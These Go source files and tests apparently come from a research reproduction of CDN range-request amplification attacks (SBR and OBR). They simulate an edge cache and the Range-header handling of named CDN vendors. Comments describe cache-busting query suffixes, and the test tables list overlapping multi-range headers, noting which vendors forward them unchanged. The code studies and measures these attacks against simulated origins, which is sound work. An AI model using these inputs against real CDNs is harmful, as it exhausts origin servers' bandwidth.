type Stats struct {
	Hits       int64
	Misses     int64
	Bypasses   int64
	ExpiredTTL int64 // entries dropped because their TTL lapsed
	EvictedLRU int64 // entries dropped by LRU capacity pressure
	Collapsed  int64 // misses served by another request's in-flight fetch

	// Deprecated: Evictions is ExpiredTTL+EvictedLRU, kept for callers
	// that predate the split.
	Evictions int64
}

// Cache is a concurrency-safe sharded LRU+TTL object cache.
type Cache struct {
	cfg    Config
	shards []*shard
	mask   uint32

	bypasses atomic.Int64

	// Process-wide mirrors of the stats, resolved at construction.
	mHits, mMisses, mBypasses             *metrics.Counter
	mEvictions, mExpiredTTL, mEvictedLRU  *metrics.Counter
	mCollapsed, mCollapseLead, mContended *metrics.Counter
}

type entry struct {
	key     string
	obj     *Object
	savedAt time.Time
}

// flight is one in-progress singleflight fetch; waiters block on done
// and then read obj/err (published before done closes).
type flight struct {
	done chan struct{}
	obj  *Object
	err  error
}

// shard is one independently locked slice of the key space.
type shard struct {
	mu       sync.Mutex
	entries  map[string]*list.Element
	order    *list.List // front = most recently used
	inflight map[string]*flight
	max      int
	stats    Stats
}

// New returns an empty cache.
func New(cfg Config) *Cache {
	if cfg.MaxEntries <= 0 {
		cfg.MaxEntries = defaultMaxEntries
	}
	if cfg.Now == nil {
		cfg.Now = time.Now
	}
	n := shardCount(cfg.Shards, cfg.MaxEntries)
	reg := cfg.Metrics
	if reg == nil {
		reg = metrics.Default
	}
	c := &Cache{
		cfg:    cfg,
		shards: make([]*shard, n),
		mask:   uint32(n - 1),
		mHits: reg.Counter("cache_hits_total",
			"Requests served from an edge cache."),
		mMisses: reg.Counter("cache_misses_total",
			"Cache lookups that found no fresh entry."),
		mBypasses: reg.Counter("cache_bypasses_total",
			"Requests whose target bypasses caching entirely."),
		mEvictions: reg.Counter("cache_evictions_total",
			"Entries dropped by TTL expiry or LRU pressure (sum of the split counters)."),
		mExpiredTTL: reg.Counter("cache_expired_ttl_total",
			"Entries dropped because their TTL lapsed."),
		mEvictedLRU: reg.Counter("cache_evicted_lru_total",
			"Entries dropped by LRU capacity pressure."),
		mCollapsed: reg.Counter("cache_collapsed_total",
			"Misses served by collapsing onto another request's in-flight fetch."),
		mCollapseLead: reg.Counter("cache_collapse_leaders_total",
			"Misses elected to perform the fetch other requests collapsed onto."),
		mContended: reg.Counter("cache_shard_contention_total",
			"Lock acquisitions that found their shard already held."),
	}
	per, extra := cfg.MaxEntries/n, cfg.MaxEntries%n
	for i := range c.shards {
		max := per
		if i < extra {
			max++
		}
		c.shards[i] = &shard{
			entries:  make(map[string]*list.Element),
			order:    list.New(),
			inflight: make(map[string]*flight),
			max:      max,
		}
	}
	return c
}

// shardCount resolves the shard count: a power of two, shrunk until
// each shard's capacity share reaches minPerShard (a 3-entry cache
// gets one shard and exact global LRU semantics).
func shardCount(want, maxEntries int) int {
	n := want
	if n <= 0 {
		n = defaultShards
	}
	for n&(n-1) != 0 {
		n &= n - 1 // round down to a power of two
	}
	for n > 1 && maxEntries/n < minPerShard {
		n >>= 1
	}
	return n
}

// shardFor picks the key's shard by FNV-1a hash.
func (c *Cache) shardFor(key string) *shard {
	const (
		offset32 = 2166136261
		prime32  = 16777619
	)
	h := uint32(offset32)
	for i := 0; i < len(key); i++ {
		h ^= uint32(key[i])
		h *= prime32
	}
	return c.shards[h&c.mask]
}

// lock acquires the shard mutex, counting the acquisitions that found
// it already held (the contention signal the sharding exists to shrink).
func (c *Cache) lock(s *shard) {
	if !s.mu.TryLock() {
		c.mContended.Inc()
		s.mu.Lock()
	}
}

// Key derives the cache key for a request target ("/path?query").
// cacheable=false means the target bypasses the cache entirely.
func (c *Cache) Key(target string) (key string, cacheable bool) {
	path := target
	if i := strings.IndexByte(target, '?'); i >= 0 {
		path = target[:i]
	}
	for _, prefix := range c.cfg.BypassPrefixes {
		if strings.HasPrefix(path, prefix) {
			return "", false
		}
	}
	if c.cfg.IncludeQueryInKey {
		return target, true
	}
	return path, true
}

// Get returns the cached object for a request target, accounting a
// hit, miss or bypass.
func (c *Cache) Get(target string) (*Object, bool) {
	key, cacheable := c.Key(target)
	if !cacheable {
		c.bypasses.Add(1)
		c.mBypasses.Inc()
		return nil, false
	}
	s := c.shardFor(key)
	c.lock(s)
	defer s.mu.Unlock()
	return c.getLocked(s, key)
}

// getLocked is the fresh-entry lookup; callers hold s.mu.
func (c *Cache) getLocked(s *shard, key string) (*Object, bool) {
	elem, ok := s.entries[key]
	if !ok {
		s.stats.Misses++
		c.mMisses.Inc()
		return nil, false
	}
	ent := elem.Value.(*entry)
	if c.cfg.TTL > 0 && c.cfg.Now().Sub(ent.savedAt) > c.cfg.TTL {
		c.evictLocked(s, elem, true)
		s.stats.Misses++
		c.mMisses.Inc()
		return nil, false
	}
	s.order.MoveToFront(elem)
	s.stats.Hits++
	c.mHits.Inc()
	return ent.obj, true
}

// Put stores an object under the target's key. Bypassed targets are
// not stored.
func (c *Cache) Put(target string, obj *Object) {
	key, cacheable := c.Key(target)
	if !cacheable || obj == nil {
		return
	}
	s := c.shardFor(key)
	c.lock(s)
	defer s.mu.Unlock()
	c.putLocked(s, key, obj)
}

func (c *Cache) putLocked(s *shard, key string, obj *Object) {
	if elem, ok := s.entries[key]; ok {
		ent := elem.Value.(*entry)
		ent.obj = obj
		ent.savedAt = c.cfg.Now()
		s.order.MoveToFront(elem)
		return
	}
	elem := s.order.PushFront(&entry{key: key, obj: obj, savedAt: c.cfg.Now()})
	s.entries[key] = elem
	for len(s.entries) > s.max {
		oldest := s.order.Back()
		if oldest == nil {
			break
		}
		c.evictLocked(s, oldest, false)
	}
}

// Do returns the object for target, collapsing concurrent misses on the
// same key onto a single fetch: the first miss becomes the leader and
// runs fetch; misses arriving while it is in flight wait and share its
// result (collapsed=true) instead of issuing their own upstream fetch.
// A successful fetch is stored under the key before waiters wake. A
// leader that fails, or returns nil (an uncacheable outcome), releases
// its waiters with (nil, true, err): callers fall back to their own
// non-collapsed path. Bypassed targets run fetch directly.
func (c *Cache) Do(target string, fetch func() (*Object, error)) (obj *Object, collapsed bool, err error) {
	key, cacheable := c.Key(target)
	if !cacheable {
		c.bypasses.Add(1)
		c.mBypasses.Inc()
		obj, err = fetch()
		return obj, false, err
	}
	s := c.shardFor(key)
	c.lock(s)
	if obj, ok := c.getLocked(s, key); ok {
		s.mu.Unlock()
		return obj, false, nil
	}
	if fl, ok := s.inflight[key]; ok {
		// A leader is already fetching this key: wait for it off-lock.
		s.mu.Unlock()
		<-fl.done
		c.lock(s)
		s.stats.Collapsed++
		s.mu.Unlock()
		c.mCollapsed.Inc()
		return fl.obj, true, fl.err
	}
	fl := &flight{done: make(chan struct{})}
	s.inflight[key] = fl
	s.mu.Unlock()
	c.mCollapseLead.Inc()

	fl.obj, fl.err = fetch()

	c.lock(s)
	if fl.obj != nil && fl.err == nil {
		c.putLocked(s, key, fl.obj)
	}
	delete(s.inflight, key)
	s.mu.Unlock()
	close(fl.done)
	return fl.obj, false, fl.err
}

// Purge drops every entry.
func (c *Cache) Purge() {
	for _, s := range c.shards {
		c.lock(s)
		s.entries = make(map[string]*list.Element)
		s.order.Init()
		s.mu.Unlock()
	}
}

// Len returns the number of cached entries.
func (c *Cache) Len() int {
	n := 0
	for _, s := range c.shards {
		c.lock(s)
		n += len(s.entries)
		s.mu.Unlock()
	}
	return n
}

// ShardCount returns the number of shards the key space resolved to.
func (c *Cache) ShardCount() int { return len(c.shards) }

// Stats returns a snapshot of the counters summed across shards.
func (c *Cache) Stats() Stats {
	var out Stats
	for _, s := range c.shards {
		c.lock(s)
		out.Hits += s.stats.Hits
		out.Misses += s.stats.Misses
		out.ExpiredTTL += s.stats.ExpiredTTL
		out.EvictedLRU += s.stats.EvictedLRU
		out.Collapsed += s.stats.Collapsed
		s.mu.Unlock()
	}
	out.Bypasses = c.bypasses.Load()
	out.Evictions = out.ExpiredTTL + out.EvictedLRU
	return out
}

// evictLocked removes an entry and accounts the eviction under its
// cause (Purge does not count, it is an operator action). Callers hold
// s.mu.
func (c *Cache) evictLocked(s *shard, elem *list.Element, expired bool) {
	ent := elem.Value.(*entry)
	delete(s.entries, ent.key)
	s.order.Remove(elem)
	if expired {
		s.stats.ExpiredTTL++
		c.mExpiredTTL.Inc()
	} else {
		s.stats.EvictedLRU++
		c.mEvictedLRU.Inc()
	}
	c.mEvictions.Inc()
}
