// Package cache implements the CDN edge cache. Its keying rules are
// what make the SBR attack practical: because the default key includes
// the query string, a random "?cb=…" suffix forces a cache miss and a
// fresh back-to-origin fetch on every attack request (§II-A).
package cache

import (
	"container/list"
	"strings"
	"sync"
	"time"

	"repro/internal/metrics"
)

// Config controls cache behaviour.
type Config struct {
	// IncludeQueryInKey makes distinct query strings distinct cache
	// entries. True is the CDN default the paper's attackers exploit;
	// false is the "ignore query strings" page rule Cloudflare suggested
	// as a mitigation (§VII-A).
	IncludeQueryInKey bool

	// TTL bounds entry freshness. Zero means entries never expire.
	TTL time.Duration

	// MaxEntries bounds the cache size with LRU eviction. Zero means 4096.
	MaxEntries int

	// BypassPrefixes lists path prefixes that are never cached (the
	// Cloudflare "Bypass" cache rule).
	BypassPrefixes []string

	// Now is the clock; nil means time.Now.
	Now func() time.Time
}

const defaultMaxEntries = 4096

// Object is a cached full-body representation. Body is a shared
// read-only view: on the serving path it aliases the bytes the edge
// received (which may themselves alias the origin's resource store), and
// every cache hit returns the same slice. Neither the cache nor its
// callers may write through it.
type Object struct {
	Body        []byte
	ContentType string
	Size        int64
}

// Stats is a snapshot of cache effectiveness counters.
type Stats struct {
	Hits      int64
	Misses    int64
	Bypasses  int64
	Evictions int64 // entries dropped by TTL expiry or LRU pressure
}

// Cache is a concurrency-safe LRU+TTL object cache.
type Cache struct {
	cfg Config

	mu      sync.Mutex
	entries map[string]*list.Element
	order   *list.List // front = most recently used
	stats   Stats

	// Process-wide mirrors of the stats, resolved at construction.
	mHits, mMisses, mBypasses, mEvictions *metrics.Counter
}

type entry struct {
	key     string
	obj     *Object
	savedAt time.Time
}

// New returns an empty cache.
func New(cfg Config) *Cache {
	if cfg.MaxEntries <= 0 {
		cfg.MaxEntries = defaultMaxEntries
	}
	if cfg.Now == nil {
		cfg.Now = time.Now
	}
	return &Cache{
		cfg:     cfg,
		entries: make(map[string]*list.Element),
		order:   list.New(),
		mHits: metrics.Default.Counter("cache_hits_total",
			"Requests served from an edge cache."),
		mMisses: metrics.Default.Counter("cache_misses_total",
			"Cache lookups that found no fresh entry."),
		mBypasses: metrics.Default.Counter("cache_bypasses_total",
			"Requests whose target bypasses caching entirely."),
		mEvictions: metrics.Default.Counter("cache_evictions_total",
			"Entries dropped by TTL expiry or LRU pressure."),
	}
}

// Key derives the cache key for a request target ("/path?query").
// cacheable=false means the target bypasses the cache entirely.
func (c *Cache) Key(target string) (key string, cacheable bool) {
	path := target
	if i := strings.IndexByte(target, '?'); i >= 0 {
		path = target[:i]
	}
	for _, prefix := range c.cfg.BypassPrefixes {
		if strings.HasPrefix(path, prefix) {
			return "", false
		}
	}
	if c.cfg.IncludeQueryInKey {
		return target, true
	}
	return path, true
}

// Get returns the cached object for a request target, accounting a
// hit, miss or bypass.
func (c *Cache) Get(target string) (*Object, bool) {
	key, cacheable := c.Key(target)
	c.mu.Lock()
	defer c.mu.Unlock()
	if !cacheable {
		c.stats.Bypasses++
		c.mBypasses.Inc()
		return nil, false
	}
	elem, ok := c.entries[key]
	if !ok {
		c.stats.Misses++
		c.mMisses.Inc()
		return nil, false
	}
	ent := elem.Value.(*entry)
	if c.cfg.TTL > 0 && c.cfg.Now().Sub(ent.savedAt) > c.cfg.TTL {
		c.evictLocked(elem)
		c.stats.Misses++
		c.mMisses.Inc()
		return nil, false
	}
	c.order.MoveToFront(elem)
	c.stats.Hits++
	c.mHits.Inc()
	return ent.obj, true
}

// Put stores an object under the target's key. Bypassed targets are
// not stored.
func (c *Cache) Put(target string, obj *Object) {
	key, cacheable := c.Key(target)
	if !cacheable || obj == nil {
		return
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if elem, ok := c.entries[key]; ok {
		ent := elem.Value.(*entry)
		ent.obj = obj
		ent.savedAt = c.cfg.Now()
		c.order.MoveToFront(elem)
		return
	}
	elem := c.order.PushFront(&entry{key: key, obj: obj, savedAt: c.cfg.Now()})
	c.entries[key] = elem
	for len(c.entries) > c.cfg.MaxEntries {
		oldest := c.order.Back()
		if oldest == nil {
			break
		}
		c.evictLocked(oldest)
	}
}

// Purge drops every entry.
func (c *Cache) Purge() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.entries = make(map[string]*list.Element)
	c.order.Init()
}

// Len returns the number of cached entries.
func (c *Cache) Len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.entries)
}

// Stats returns a snapshot of the counters.
func (c *Cache) Stats() Stats {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.stats
}

// evictLocked removes an entry and accounts the eviction (TTL expiry
// or LRU pressure; Purge does not count, it is an operator action).
func (c *Cache) evictLocked(elem *list.Element) {
	ent := elem.Value.(*entry)
	delete(c.entries, ent.key)
	c.order.Remove(elem)
	c.stats.Evictions++
	c.mEvictions.Inc()
}
