package cache

import (
	"fmt"
	"testing"
)

// benchContention hammers a hot key space from many goroutines. The
// shards=1 case is the pre-sharding cache (one mutex in front of
// everything); the shards=16 case is the default sharded layout. Run
// together they put a number on the lock contention the sharding
// removes.
func benchContention(b *testing.B, shards int) {
	const keys = 512
	c := New(Config{IncludeQueryInKey: true, MaxEntries: 4 * keys, Shards: shards})
	for i := 0; i < keys; i++ {
		c.Put(fmt.Sprintf("/f%d", i), obj(1))
	}
	b.SetParallelism(8)
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		i := 0
		for pb.Next() {
			key := fmt.Sprintf("/f%d", i%keys)
			if i%8 == 0 {
				c.Put(key, obj(1))
			} else if _, ok := c.Get(key); !ok {
				b.Fatalf("%s missing", key)
			}
			i++
		}
	})
}

// BenchmarkCacheContention is the parallel=8 mixed Get/Put workload at
// both shard extremes.
func BenchmarkCacheContention(b *testing.B) {
	for _, shards := range []int{1, 16} {
		b.Run(fmt.Sprintf("shards=%d", shards), func(b *testing.B) {
			benchContention(b, shards)
		})
	}
}

// BenchmarkCacheDo measures the singleflight fast path: a Do on a
// cached key is a hit and must not pay flight bookkeeping.
func BenchmarkCacheDo(b *testing.B) {
	c := New(Config{IncludeQueryInKey: true})
	c.Put("/hot", obj(1))
	b.ReportAllocs()
	b.SetParallelism(8)
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			if _, _, err := c.Do("/hot", func() (*Object, error) { return obj(1), nil }); err != nil {
				b.Fatal(err)
			}
		}
	})
}
