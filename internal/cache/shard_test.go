package cache

import (
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

func TestShardCountResolution(t *testing.T) {
	cases := []struct {
		want, maxEntries, expect int
	}{
		{0, 4096, 16},  // defaults
		{0, 64, 8},     // shrunk so each shard keeps >= minPerShard
		{0, 3, 1},      // tiny cache collapses to exact global LRU
		{32, 4096, 32}, // explicit power of two kept
		{33, 4096, 32}, // rounded down to a power of two
		{8, 16, 2},     // shrunk: 16 entries over 8 shards is too thin
	}
	for _, tc := range cases {
		if got := shardCount(tc.want, tc.maxEntries); got != tc.expect {
			t.Errorf("shardCount(%d, %d) = %d, want %d", tc.want, tc.maxEntries, got, tc.expect)
		}
	}
	c := New(Config{IncludeQueryInKey: true, MaxEntries: 4096, Shards: 8})
	if c.ShardCount() != 8 {
		t.Errorf("ShardCount = %d, want 8", c.ShardCount())
	}
}

func TestShardedCapacityBound(t *testing.T) {
	c := New(Config{IncludeQueryInKey: true, MaxEntries: 100, Shards: 4})
	for i := 0; i < 1000; i++ {
		c.Put(fmt.Sprintf("/f%d", i), obj(1))
	}
	if n := c.Len(); n > 100 {
		t.Errorf("Len = %d, want <= 100", n)
	}
	st := c.Stats()
	if st.EvictedLRU == 0 {
		t.Error("no LRU evictions recorded under capacity pressure")
	}
	if st.ExpiredTTL != 0 {
		t.Errorf("ExpiredTTL = %d without a TTL", st.ExpiredTTL)
	}
	if st.Evictions != st.ExpiredTTL+st.EvictedLRU {
		t.Errorf("deprecated Evictions = %d, want sum %d", st.Evictions, st.ExpiredTTL+st.EvictedLRU)
	}
}

func TestEvictionSplitTTLvsLRU(t *testing.T) {
	now := time.Unix(0, 0)
	var mu sync.Mutex
	clock := func() time.Time { mu.Lock(); defer mu.Unlock(); return now }
	c := New(Config{IncludeQueryInKey: true, MaxEntries: 3, TTL: time.Minute, Now: clock})
	c.Put("/a", obj(1))
	mu.Lock()
	now = now.Add(2 * time.Minute)
	mu.Unlock()
	c.Get("/a") // TTL lapse
	for i := 0; i < 4; i++ {
		c.Put(fmt.Sprintf("/f%d", i), obj(1)) // one LRU eviction
	}
	st := c.Stats()
	if st.ExpiredTTL != 1 {
		t.Errorf("ExpiredTTL = %d, want 1", st.ExpiredTTL)
	}
	if st.EvictedLRU != 1 {
		t.Errorf("EvictedLRU = %d, want 1", st.EvictedLRU)
	}
	if st.Evictions != 2 {
		t.Errorf("Evictions = %d, want 2", st.Evictions)
	}
}

func TestDoCollapsesConcurrentMisses(t *testing.T) {
	c := New(Config{IncludeQueryInKey: true})
	const K = 16
	var fetches atomic.Int64
	arrived := make(chan struct{})
	release := make(chan struct{})

	// The leader parks inside fetch; every Do issued while it is parked
	// must join its flight (the key has no cached entry and a registered
	// flight, so the waiter branch is the only path).
	leaderDone := make(chan struct{})
	go func() {
		defer close(leaderDone)
		c.Do("/hot?cb=x", func() (*Object, error) { //nolint:errcheck
			fetches.Add(1)
			close(arrived)
			<-release
			return obj(7), nil
		})
	}()
	<-arrived

	var wg sync.WaitGroup
	objs := make([]*Object, K)
	collapsed := make([]bool, K)
	for i := 0; i < K; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			o, col, err := c.Do("/hot?cb=x", func() (*Object, error) {
				fetches.Add(1)
				return obj(7), nil
			})
			if err != nil {
				t.Errorf("waiter %d: %v", i, err)
			}
			objs[i] = o
			collapsed[i] = col
		}(i)
	}
	time.Sleep(20 * time.Millisecond)
	close(release)
	wg.Wait()
	<-leaderDone

	if n := fetches.Load(); n != 1 {
		t.Errorf("fetches = %d, want exactly 1 for %d concurrent misses", n, K+1)
	}
	for i, o := range objs {
		if o == nil || o.Size != 7 {
			t.Errorf("waiter %d got %+v", i, o)
		}
		if !collapsed[i] {
			t.Errorf("waiter %d was not collapsed", i)
		}
	}
	if st := c.Stats(); st.Collapsed != K {
		t.Errorf("Collapsed = %d, want %d", st.Collapsed, K)
	}
}

func TestDoLeaderCachesResult(t *testing.T) {
	c := New(Config{IncludeQueryInKey: true})
	o, collapsed, err := c.Do("/a", func() (*Object, error) { return obj(3), nil })
	if err != nil || collapsed || o.Size != 3 {
		t.Fatalf("Do = %+v,%v,%v", o, collapsed, err)
	}
	if got, ok := c.Get("/a"); !ok || got.Size != 3 {
		t.Error("leader's fetch was not cached")
	}
	// A second Do is a plain hit, not a new fetch.
	ran := false
	o, collapsed, err = c.Do("/a", func() (*Object, error) { ran = true; return nil, nil })
	if err != nil || collapsed || o.Size != 3 || ran {
		t.Errorf("second Do = %+v,%v,%v ran=%v", o, collapsed, err, ran)
	}
}

func TestDoLeaderFailureReleasesWaiters(t *testing.T) {
	c := New(Config{IncludeQueryInKey: true})
	boom := errors.New("origin down")
	arrived := make(chan struct{})
	release := make(chan struct{})
	go func() {
		c.Do("/bad", func() (*Object, error) { //nolint:errcheck
			close(arrived)
			<-release
			return nil, boom
		})
	}()
	<-arrived
	waiter := make(chan error, 1)
	go func() {
		_, _, err := c.Do("/bad", func() (*Object, error) { return obj(1), nil })
		waiter <- err
	}()
	time.Sleep(10 * time.Millisecond)
	close(release)
	if err := <-waiter; !errors.Is(err, boom) {
		t.Errorf("waiter err = %v, want the leader's error", err)
	}
	if _, ok := c.Get("/bad"); ok {
		t.Error("failed fetch was cached")
	}
}

func TestDoBypassRunsDirectly(t *testing.T) {
	c := New(Config{IncludeQueryInKey: true, BypassPrefixes: []string{"/nocache/"}})
	ran := 0
	for i := 0; i < 2; i++ {
		o, collapsed, err := c.Do("/nocache/f", func() (*Object, error) { ran++; return obj(1), nil })
		if err != nil || collapsed || o == nil {
			t.Fatalf("Do = %+v,%v,%v", o, collapsed, err)
		}
	}
	if ran != 2 {
		t.Errorf("fetch ran %d times, want 2 (bypass never collapses or caches)", ran)
	}
	if c.Len() != 0 {
		t.Error("bypassed target was cached")
	}
}

func TestShardedConcurrentDo(t *testing.T) {
	// Race-detector workout: many goroutines hammering Do/Get/Put over a
	// small hot key space across all shards.
	c := New(Config{IncludeQueryInKey: true, MaxEntries: 256, Shards: 16})
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 300; i++ {
				key := fmt.Sprintf("/f%d", i%32)
				switch i % 3 {
				case 0:
					c.Do(key, func() (*Object, error) { return obj(i % 10), nil }) //nolint:errcheck
				case 1:
					c.Get(key)
				default:
					c.Put(key, obj(i%10))
				}
			}
		}(w)
	}
	wg.Wait()
	if n := c.Len(); n > 256 {
		t.Errorf("cache exceeded bound: %d", n)
	}
}
