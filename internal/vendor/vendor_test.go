package vendor

import (
	"strings"
	"testing"

	"repro/internal/httpwire"
	"repro/internal/origin"
	"repro/internal/ranges"
	"repro/internal/resource"
)

// fakeUpstream answers Fetch using a real origin.Server handler and
// records the Range header of every back-to-origin request.
type fakeUpstream struct {
	srv   *origin.Server
	path  string
	calls []fetchCall
}

type fetchCall struct {
	RangeHeader string
	HasRange    bool
	MaxBody     int64
}

func newFakeUpstream(size int64, rangeSupport bool) *fakeUpstream {
	store := resource.NewStore()
	store.AddSynthetic("/target", size, "application/octet-stream")
	return &fakeUpstream{
		srv:  origin.NewServer(store, origin.Config{RangeSupport: rangeSupport}),
		path: "/target",
	}
}

func (f *fakeUpstream) Fetch(rangeHeader string, maxBody int64) (*httpwire.Response, bool, error) {
	f.calls = append(f.calls, fetchCall{RangeHeader: rangeHeader, HasRange: rangeHeader != "", MaxBody: maxBody})
	req := httpwire.NewRequest("GET", f.path, "origin.test")
	if rangeHeader != "" {
		req.Headers.Add("Range", rangeHeader)
	}
	resp := f.srv.Handle(req)
	if maxBody > 0 && int64(len(resp.Body)) > maxBody {
		resp = resp.Clone()
		resp.Body = resp.Body[:maxBody]
		return resp, true, nil
	}
	return resp, false, nil
}

func runBehaviour(t *testing.T, p *Profile, up Upstream, rawRange string, sizeHint int64) *Retrieval {
	t.Helper()
	rc := &RequestContext{
		Raw:      rawRange,
		HasRange: rawRange != "",
		Path:     "/target",
		SizeHint: sizeHint,
		State:    NewEdgeState(),
		Key:      "/target",
	}
	if rawRange != "" {
		if set, err := ranges.Parse(rawRange); err == nil {
			rc.Set = set
		}
	}
	ret, err := p.Behaviour(up, rc, &p.Options)
	if err != nil {
		t.Fatalf("%s behaviour(%q): %v", p.Name, rawRange, err)
	}
	return ret
}

// TestTable1Forwarding verifies each vendor's back-to-origin Range
// transformation against Table I of the paper.
func TestTable1Forwarding(t *testing.T) {
	const MB = int64(1 << 20)
	tests := []struct {
		vendor    string
		size      int64
		sizeHint  int64
		in        string
		wantCalls []string // "" = no Range header (Deletion); one entry per back-to-origin request
	}{
		{"akamai", 4096, 0, "bytes=0-0", []string{""}},
		{"akamai", 4096, 0, "bytes=-1", []string{""}},
		{"alibaba", 4096, 0, "bytes=-1", []string{""}},
		{"alibaba", 4096, 0, "bytes=0-0", []string{"bytes=0-0"}}, // only suffix shape is stripped
		{"azure", 4 * MB, 0, "bytes=0-0", []string{""}},
		{"azure", 20 * MB, 0, "bytes=8388608-8388608", []string{"", "bytes=8388608-16777215"}},
		{"azure", 20 * MB, 0, "bytes=0-0", []string{""}}, // truncated prefix serves it
		{"cdn77", 4096, 0, "bytes=0-0", []string{""}},
		{"cdn77", 4096, 0, "bytes=2048-2048", []string{"bytes=2048-2048"}}, // first >= 1024: lazy
		{"cdnsun", 4096, 0, "bytes=0-100", []string{""}},
		{"cdnsun", 4096, 0, "bytes=1-100", []string{"bytes=1-100"}},
		{"cloudflare", 4096, 0, "bytes=0-0", []string{""}},
		{"cloudflare", 4096, 0, "bytes=-1", []string{""}},
		{"cloudfront", 4096, 0, "bytes=0-0", []string{"bytes=0-1048575"}},
		{"cloudfront", 20 * MB, 0, "bytes=0-0,9437184-9437184", []string{"bytes=0-10485759"}},
		{"fastly", 4096, 0, "bytes=0-0", []string{""}},
		{"fastly", 4096, 0, "bytes=-1", []string{""}},
		{"gcore", 4096, 0, "bytes=0-0", []string{""}},
		{"gcore", 4096, 0, "bytes=-1", []string{""}},
		{"huawei", 4 * MB, 4 * MB, "bytes=-1", []string{""}},
		{"huawei", 12 * MB, 12 * MB, "bytes=0-0", []string{""}},
		{"huawei", 12 * MB, 12 * MB, "bytes=-1", []string{"bytes=-1"}}, // F >= 10MB: suffix is lazy
		{"huawei", 4 * MB, 4 * MB, "bytes=0-0", []string{"bytes=0-0"}}, // F < 10MB: first-last is lazy
		{"keycdn", 4096, 0, "bytes=0-0", []string{"bytes=0-0"}},        // first sighting: lazy
		{"stackpath", 4096, 0, "bytes=0-0", []string{"bytes=0-0", ""}}, // lazy, then re-forward on 206
		{"stackpath", 4096, 0, "bytes=-1", []string{"bytes=-1", ""}},
		{"tencent", 4096, 0, "bytes=0-0", []string{""}},
		{"tencent", 4096, 0, "bytes=-1", []string{"bytes=-1"}},
	}
	for _, tt := range tests {
		t.Run(tt.vendor+"/"+tt.in, func(t *testing.T) {
			p, ok := ByName(tt.vendor)
			if !ok {
				t.Fatalf("unknown vendor %s", tt.vendor)
			}
			up := newFakeUpstream(tt.size, true)
			runBehaviour(t, p, up, tt.in, tt.sizeHint)
			if len(up.calls) != len(tt.wantCalls) {
				t.Fatalf("%d back-to-origin requests, want %d (%+v)", len(up.calls), len(tt.wantCalls), up.calls)
			}
			for i, want := range tt.wantCalls {
				if up.calls[i].RangeHeader != want {
					t.Errorf("request %d Range = %q, want %q", i, up.calls[i].RangeHeader, want)
				}
			}
		})
	}
}

// TestKeyCDNSecondRequestDeletes reproduces §V-A(4): the same request
// twice; the second back-to-origin request has no Range header.
func TestKeyCDNSecondRequestDeletes(t *testing.T) {
	p, _ := ByName("keycdn")
	up := newFakeUpstream(4096, true)
	state := NewEdgeState()
	rc := &RequestContext{Raw: "bytes=0-0", HasRange: true, Path: "/target", State: state, Key: "/target"}
	rc.Set, _ = ranges.Parse(rc.Raw)

	if _, err := p.Behaviour(up, rc, &p.Options); err != nil {
		t.Fatal(err)
	}
	if _, err := p.Behaviour(up, rc, &p.Options); err != nil {
		t.Fatal(err)
	}
	if len(up.calls) != 2 {
		t.Fatalf("%d calls", len(up.calls))
	}
	if !up.calls[0].HasRange || up.calls[1].HasRange {
		t.Errorf("calls = %+v, want lazy then deletion", up.calls)
	}
}

// TestTable2LazyMultiRangeForwarding verifies the FCDN side of the OBR
// attack: the four Table II vendors forward overlapping multi-range
// sets unchanged, the other nine do not.
func TestTable2LazyMultiRangeForwarding(t *testing.T) {
	cases := map[string]string{
		"cdn77":      "bytes=-1024,0-,0-,0-",
		"cdnsun":     "bytes=1-,0-,0-,0-",
		"cloudflare": "bytes=0-,0-,0-",
		"stackpath":  "bytes=0-,0-,0-",
	}
	for _, p := range All() {
		p := p
		t.Run(p.Name, func(t *testing.T) {
			raw, vulnerable := cases[p.Name]
			if !vulnerable {
				raw = "bytes=0-,0-,0-"
			}
			if p.Name == "cloudflare" {
				p.Options.CloudflareBypass = true // Table II's conditional position
			}
			up := newFakeUpstream(1024, false) // OBR origin: ranges disabled
			runBehaviour(t, p, up, raw, 0)
			forwardedUnchanged := len(up.calls) > 0 && up.calls[0].RangeHeader == raw
			if vulnerable && !forwardedUnchanged {
				t.Errorf("expected unchanged forwarding, calls = %+v", up.calls)
			}
			if !vulnerable && forwardedUnchanged {
				t.Errorf("%s forwarded an overlapping set unchanged: %+v", p.Name, up.calls)
			}
		})
	}
}

func TestCloudflareCacheableStripsMulti(t *testing.T) {
	p, _ := ByName("cloudflare")
	up := newFakeUpstream(1024, false)
	runBehaviour(t, p, up, "bytes=0-,0-,0-", 0)
	if len(up.calls) != 1 || up.calls[0].HasRange {
		t.Errorf("cacheable Cloudflare calls = %+v, want single Deletion", up.calls)
	}
}

func TestOptionsDisarmVendors(t *testing.T) {
	for _, name := range []string{"alibaba", "tencent", "huawei"} {
		t.Run(name, func(t *testing.T) {
			p, _ := ByName(name)
			p.Options.RangeOptionVulnerable = false
			raw := "bytes=0-0"
			if name == "alibaba" {
				raw = "bytes=-1"
			}
			up := newFakeUpstream(1<<22, true)
			ret := runBehaviour(t, p, up, raw, 1<<22)
			if len(up.calls) != 1 || up.calls[0].RangeHeader != raw {
				t.Errorf("safe option still transformed: %+v", up.calls)
			}
			if ret.Relay == nil {
				t.Error("safe option should relay lazily")
			}
		})
	}
}

func TestAzureTruncationBoundsOriginTraffic(t *testing.T) {
	p, _ := ByName("azure")
	up := newFakeUpstream(20<<20, true)
	ret := runBehaviour(t, p, up, "bytes=8388608-8388608", 0)
	if ret.Object == nil {
		t.Fatal("expected an object")
	}
	// Second fetch must return the Azure window.
	if ret.Object.Offset != ranges.AzureWindowFirst {
		t.Errorf("object offset = %d", ret.Object.Offset)
	}
	if int64(len(ret.Object.Body)) != ranges.AzureWindowLast-ranges.AzureWindowFirst+1 {
		t.Errorf("object body = %d bytes", len(ret.Object.Body))
	}
	if up.calls[0].MaxBody != ranges.AzureCutoff {
		t.Errorf("first fetch maxBody = %d", up.calls[0].MaxBody)
	}
}

func TestObjectFromResponse(t *testing.T) {
